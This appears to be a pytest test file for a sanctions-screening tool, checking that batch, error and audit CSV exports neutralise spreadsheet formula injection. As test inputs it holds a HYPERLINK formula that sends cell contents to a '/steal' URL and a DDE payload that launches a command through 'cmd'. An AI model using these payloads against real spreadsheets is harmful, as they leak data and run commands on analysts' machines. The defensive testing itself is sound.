"""CSV files written for analysts never carry a live spreadsheet formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tests.support import shared, wk
from watchkeeper.spreadsheet import original_cell, safe_cell

HYPERLINK = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"details")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),  # so that reading back is exact
        ("Kim Jong Un", "Kim Jong Un"),
        ("ofac-sdn:20157", "ofac-sdn:20157"),
        ("", ""),
    ],
)
def test_a_formula_cell_is_written_as_text_and_read_back_exactly(value: str, written: str) -> None:
    assert safe_cell(value) == written
    assert original_cell(written) == value


def test_safe_cell_leaves_numbers_alone() -> None:
    assert safe_cell(-1.5) == -1.5


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_batch_results_errors_and_audit_export_are_neutralised(tmp_path: Path) -> None:
    wk(tmp_path, "lists", "load", str(shared("ofac/sdn-history/sdn-2022-02-03.csv.gz")))
    customers = tmp_path / "customers.csv"
    with customers.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "type", "dob", "country", "identifier"])
        writer.writerow([HYPERLINK, "Kim Jong Un", "person", "", "", ""])
        writer.writerow(["=1+1", "", "", "", "", ""])  # no name: an error row
    alerts = tmp_path / "alerts.csv"
    batch = wk(
        tmp_path,
        "batch",
        str(customers),
        "-o",
        str(alerts),
        "--record",
        "--user",
        "=cmd|' /C calc'!A0",
        check=False,
    )
    assert batch.returncode == 2  # one row could not be screened
    errors = tmp_path / "alerts.errors.csv"
    audit = tmp_path / "audit.csv"
    wk(tmp_path, "audit", "export", str(audit))
    for path in (alerts, errors, audit):
        cells = _cells(path)
        assert cells, path
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], path
    assert "'" + HYPERLINK in _cells(alerts)
    assert "'=1+1" in _cells(errors)
    # The recorded run read its own file back: the alert is on the customer's real id.
    (alert,) = [
        a for a in json.loads(wk(tmp_path, "alerts", "--json").stdout) if a["entity_id"] == "ofac-sdn:20157"
    ]
    assert alert["customer_id"] == HYPERLINK
